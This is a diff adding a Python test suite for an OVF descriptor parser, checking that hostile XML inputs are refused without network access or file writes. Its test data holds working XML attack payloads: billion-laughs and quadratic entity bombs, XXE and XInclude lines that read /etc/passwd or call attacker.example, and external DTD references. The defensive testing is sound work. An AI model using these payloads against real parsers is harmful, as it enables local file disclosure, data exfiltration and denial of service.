@@ -1,0 +1,369 @@
+"""Hostile descriptors: each ends in a documented ovfmodel error, quickly, without network.
+
+Bounded time and memory is shown by these tests finishing (the suite is short); nothing here
+asserts wall-clock times, which would flake. Every test runs with the network disabled and in
+an empty working directory that must still be empty afterwards.
+
+XInclude decision: `parse` never processes XInclude. An `xi:include` element is kept as an inert
+vendor element (written back verbatim) and reported in `OvfDocument.problems`; with
+`strict=True` it raises OvfStrictError saying XInclude is not supported.
+"""
+
+from __future__ import annotations
+
+import io
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from ovfmodel import OvfDocument, OvfError, OvfParseError, OvfStrictError, parse, serialize, write
+
+NS2 = "http://schemas.dmtf.org/ovf/envelope/2"
+NS1 = "http://schemas.dmtf.org/ovf/envelope/1"
+XI = "http://www.w3.org/2001/XInclude"
+DATA = Path(__file__).parent / "data"
+
+
+def envelope(body: str = "", attrs: str = "", ns: str = NS2) -> bytes:
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?>\n<Envelope xmlns="{ns}"{attrs}>'
+        f"<References/>{body}</Envelope>\n"
+    ).encode()
+
+
+@pytest.fixture(autouse=True)
+def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Any attempt to resolve a name or open a connection fails the test."""
+
+    def refuse(*args: Any, **kwargs: Any) -> Any:
+        raise AssertionError(f"network access attempted: {args!r}")
+
+    monkeypatch.setattr(socket, "getaddrinfo", refuse)
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+
+
+@pytest.fixture(autouse=True)
+def empty_cwd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    """Run in an empty directory and check that nothing was written into it."""
+    work = tmp_path / "cwd"
+    work.mkdir()
+    monkeypatch.chdir(work)
+    yield work
+    assert list(work.iterdir()) == [], "a hostile input caused a file to be written"
+
+
+def refused(data: bytes | str, *, strict: bool = False) -> OvfParseError:
+    with pytest.raises(OvfParseError) as info:
+        parse(data, strict=strict)
+    return info.value
+
+
+# ------------------------------------------------------------------------- DTDs and entities
+
+BILLION_LAUGHS = (
+    '<?xml version="1.0"?>\n<!DOCTYPE Envelope [\n <!ENTITY lol "lol">\n'
+    + "".join(
+        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
+        for i in range(1, 10)
+    )
+    + f']>\n<Envelope xmlns="{NS2}"><References/>&lol9;</Envelope>\n'
+)
+
+QUADRATIC = (
+    f'<?xml version="1.0"?>\n<!DOCTYPE Envelope [<!ENTITY a "{"x" * 50_000}">]>\n'
+    f'<Envelope xmlns="{NS2}"><References/><AnnotationSection><Info>'
+    + "&a;" * 50_000
+    + "</Info><Annotation>x</Annotation></AnnotationSection></Envelope>\n"
+)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
+        pytest.param(QUADRATIC, id="quadratic-blowup"),
+        pytest.param(
+            '<?xml version="1.0"?>\n<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+            f'<Envelope xmlns="{NS2}"><References/><x:a xmlns:x="urn:x">&x;</x:a></Envelope>',
+            id="external-entity-file",
+        ),
+        pytest.param(
+            '<?xml version="1.0"?>\n<!DOCTYPE Envelope [<!ENTITY x SYSTEM '
+            '"http://attacker.example/x">]>'
+            f'<Envelope xmlns="{NS2}"><References/><x:a xmlns:x="urn:x">&x;</x:a></Envelope>',
+            id="external-entity-http",
+        ),
+        pytest.param(
+            '<?xml version="1.0"?>\n<!DOCTYPE Envelope SYSTEM "http://attacker.example/ovf.dtd">'
+            f'<Envelope xmlns="{NS2}"><References/></Envelope>',
+            id="external-dtd-http",
+        ),
+        pytest.param(
+            '<?xml version="1.0"?>\n<!DOCTYPE Envelope SYSTEM "file:///etc/passwd">'
+            f'<Envelope xmlns="{NS2}"><References/></Envelope>',
+            id="external-dtd-file",
+        ),
+        pytest.param(
+            '<?xml version="1.0"?>\n<!DOCTYPE Envelope [<!ENTITY % p SYSTEM '
+            '"http://attacker.example/p.dtd"> %p;]>'
+            f'<Envelope xmlns="{NS2}"><References/></Envelope>',
+            id="parameter-entity",
+        ),
+        pytest.param(
+            f'<!DOCTYPE Envelope><Envelope xmlns="{NS2}"><References/></Envelope>',
+            id="bare-doctype",
+        ),
+    ],
+)
+@pytest.mark.parametrize("strict", [False, True])
+def test_doctypes_and_entities_are_refused(text: str, strict: bool) -> None:
+    error = refused(text.encode(), strict=strict)
+    assert "DOCTYPE" in str(error) or "ntit" in str(error)  # refused, whatever libxml2 reached
+    assert "root:x:0:0" not in str(error)  # /etc/passwd never read
+
+
+def test_billion_laughs_as_text_and_file(tmp_path: Path) -> None:
+    refused(BILLION_LAUGHS)
+    path = tmp_path / "laughs.ovf"
+    path.write_text(BILLION_LAUGHS)
+    with pytest.raises(OvfParseError):
+        parse(path)
+    with pytest.raises(OvfParseError):
+        parse(io.BytesIO(BILLION_LAUGHS.encode()))
+
+
+def test_undeclared_entity_reference_is_refused() -> None:
+    error = refused(envelope("<x:a xmlns:x='urn:x'>&lol;</x:a>"))
+    assert "lol" in str(error)
+
+
+# ------------------------------------------------------------------------------- XInclude
+
+XINCLUDE_BODY = (
+    f'<xi:include xmlns:xi="{XI}" href="file:///etc/passwd" parse="text"/>'
+    f'<xi:include xmlns:xi="{XI}" href="http://attacker.example/s.xml"/>'
+)
+
+
+def test_xinclude_is_inert_and_reported_leniently() -> None:
+    data = envelope(XINCLUDE_BODY)
+    doc = parse(data)
+    messages = [message for _, message in doc.problems]
+    assert sum("XInclude is not supported" in m for m in messages) == 2
+    out = serialize(doc)
+    assert b"root:x:0:0" not in out
+    assert out.count(b"xi:include") == 2  # kept verbatim, never expanded
+    assert parse(out) == doc
+
+
+def test_xinclude_is_refused_strictly() -> None:
+    with pytest.raises(OvfStrictError, match="XInclude is not supported"):
+        parse(envelope(XINCLUDE_BODY), strict=True)
+
+
+def test_xinclude_deep_inside_vendor_content_is_reported() -> None:
+    body = f'<v:Ext xmlns:v="urn:v"><v:a><xi:include xmlns:xi="{XI}" href="/etc/passwd"/></v:a></v:Ext>'
+    doc = parse(envelope(body))
+    assert any("XInclude" in m for _, m in doc.problems)
+    with pytest.raises(OvfStrictError):
+        parse(envelope(body), strict=True)
+
+
+# ---------------------------------------------------------------------------- size limits
+
+
+def test_deeply_nested_elements() -> None:
+    depth = 100_000
+    data = (
+        f'<Envelope xmlns="{NS2}"><References/>'.encode()
+        + b"<a>" * depth
+        + b"</a>" * depth
+        + b"</Envelope>"
+    )
+    error = refused(data)
+    assert "safety limits" in str(error)
+
+
+def test_deeply_nested_vendor_elements() -> None:
+    depth = 100_000
+    data = (
+        f'<Envelope xmlns="{NS2}"><References/><v:a xmlns:v="urn:v">'.encode()
+        + b"<v:a>" * depth
+        + b"</v:a>" * depth
+        + b"</v:a></Envelope>"
+    )
+    refused(data)
+
+
+def test_nesting_just_within_the_limit_round_trips() -> None:
+    """What libxml2 accepts must not exhaust Python's stack in the binder or the writer."""
+    depth = 240
+    data = (
+        f'<Envelope xmlns="{NS2}"><References/><v:a xmlns:v="urn:v">'.encode()
+        + b"<v:a>" * depth
+        + b"x"
+        + b"</v:a>" * depth
+        + b"</v:a></Envelope>"
+    )
+    doc = parse(data)
+    out = serialize(doc)
+    # compared as text: dataclass equality of a 240-deep vendor tree recurses ~4 frames a level
+    assert serialize(parse(out)) == out
+
+
+def test_50mb_attribute_value() -> None:
+    data = envelope(attrs=' foo="' + "a" * 50_000_000 + '"')
+    error = refused(data)
+    assert "safety limits" in str(error)
+
+
+def test_50mb_text_value() -> None:
+    body = "<AnnotationSection><Info>" + "a" * 50_000_000 + "</Info></AnnotationSection>"
+    refused(envelope(body))
+
+
+def test_many_attributes() -> None:
+    attrs = "".join(f' a{i}="{i}"' for i in range(20_000))
+    # well-formed and within limits: accepted, kept, and written back
+    doc = parse(envelope(attrs=attrs))
+    assert len(doc.envelope.any_attributes) == 20_000
+
+
+def test_huge_path_like_string_is_a_parse_error() -> None:
+    with pytest.raises(OvfParseError):
+        parse("x" * 100_000)
+
+
+def test_path_with_nul_is_a_parse_error() -> None:
+    with pytest.raises(OvfParseError):
+        parse("descriptor\x00.ovf")
+
+
+# ---------------------------------------------------------------------------- encodings
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(envelope("<x:a xmlns:x='urn:x'>\xff\xfe</x:a>").replace(b"\xc3\xbf", b"\xff"),
+                     id="invalid-utf8-lead"),
+        pytest.param(envelope("").replace(b"<References/>", b"<References/>\xc3"),
+                     id="truncated-utf8-sequence"),
+        pytest.param(envelope("").replace(b"<References/>", b"<References/>\xed\xa0\x80"),
+                     id="utf8-encoded-surrogate"),
+        pytest.param(envelope("").replace(b"<References/>", b"<References/>\xc0\xaf"),
+                     id="overlong-utf8"),
+        pytest.param(envelope("<x:a xmlns:x='urn:x'>caf\u00e9</x:a>").replace(b"\xc3\xa9", b"\xe9"),
+                     id="latin1-labelled-utf8"),
+        pytest.param(envelope("").replace(b'encoding="UTF-8"', b'encoding="UTF-16"'),
+                     id="utf8-labelled-utf16"),
+        pytest.param(envelope("").replace(b'encoding="UTF-8"', b'encoding="X-NO-SUCH"'),
+                     id="unknown-encoding"),
+        pytest.param(envelope("").replace(b"<References/>", b"<References/>\x01"),
+                     id="control-character"),
+        pytest.param(envelope("").replace(b"<References/>", b"<References/>&#0;"),
+                     id="nul-character-reference"),
+    ],
+)
+def test_bad_encodings(data: bytes) -> None:
+    refused(data)
+
+
+def test_lone_surrogate_in_text_source() -> None:
+    with pytest.raises(OvfParseError):
+        parse(envelope("").decode() + "\ud800")
+
+
+def test_correctly_labelled_utf16_is_read() -> None:
+    text = envelope("").decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    doc = parse(text.encode("utf-16"))
+    assert isinstance(doc, OvfDocument)
+    assert parse(serialize(doc)) == doc
+
+
+# ------------------------------------------------------------------------ not OVF at all
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(b"<html><body/></html>", id="html"),
+        pytest.param(b'<Envelope xmlns="urn:not-ovf"/>', id="foreign-namespace"),
+        pytest.param(b"<Envelope/>", id="no-namespace"),
+        pytest.param(f'<VirtualSystem xmlns="{NS2}"/>'.encode(), id="ovf-but-not-envelope"),
+        pytest.param(f'<Envelope xmlns="{NS2}/"/>'.encode(), id="namespace-typo"),
+    ],
+)
+def test_wrong_root_element(data: bytes) -> None:
+    error = refused(data)
+    assert "not an OVF Envelope" in str(error)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(b"", id="empty"),
+        pytest.param(b"   \n\t ", id="blank"),
+        pytest.param(b"\x00" * 64, id="nul-bytes"),
+        pytest.param(bytes(range(256)) * 16, id="all-bytes"),
+        pytest.param(b"\x1f\x8b\x08\x00" + bytes(200), id="gzip-magic"),
+        pytest.param(b"PK\x03\x04" + bytes(200), id="zip-magic"),
+        pytest.param(b"\xef\xbb\xbf", id="bom-only"),
+        pytest.param(b"<", id="lt"),
+        pytest.param(b"<?xml", id="declaration-start"),
+        pytest.param(b"<?xml version='1.0'?>", id="declaration-only"),
+        pytest.param(b"<!-- c -->", id="comment-only"),
+        pytest.param(b"<a></b>", id="mismatched-tags"),
+        pytest.param(b"<a/><b/>", id="two-roots"),
+    ],
+)
+def test_binary_garbage_and_fragments(data: bytes) -> None:
+    refused(data)
+
+
+@pytest.mark.parametrize("corpus", sorted(p.name for p in DATA.glob("*.ovf")))
+def test_truncated_corpus_files(corpus: str) -> None:
+    data = (DATA / corpus).read_bytes()
+    n = len(data)
+    cuts = sorted({1, 2, 10, n // 7, n // 3, n // 2, 2 * n // 3, n - 20, n - 3})
+    for cut in cuts:
+        if 0 < cut < n:
+            with pytest.raises(OvfParseError):
+                parse(data[:cut])
+
+
+def test_file_object_in_text_mode() -> None:
+    with pytest.raises(OvfParseError):
+        parse(io.StringIO(envelope("").decode()))  # type: ignore[arg-type]
+
+
+def test_missing_file(tmp_path: Path) -> None:
+    with pytest.raises(OvfParseError):
+        parse(tmp_path / "missing.ovf")
+
+
+def test_directory_instead_of_file(tmp_path: Path) -> None:
+    with pytest.raises(OvfParseError):
+        parse(tmp_path)
+
+
+# --------------------------------------------------------------------- writing stays in place
+
+
+def test_write_touches_only_its_target(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    doc = parse(envelope(XINCLUDE_BODY))
+    target = out / "descriptor.ovf"
+    write(doc, target)
+    assert sorted(p.name for p in out.iterdir()) == ["descriptor.ovf"]
+    assert parse(target) == doc
+
+
+def test_every_error_is_an_ovf_error() -> None:
+    assert issubclass(OvfParseError, OvfError)
+    assert issubclass(OvfStrictError, OvfParseError)
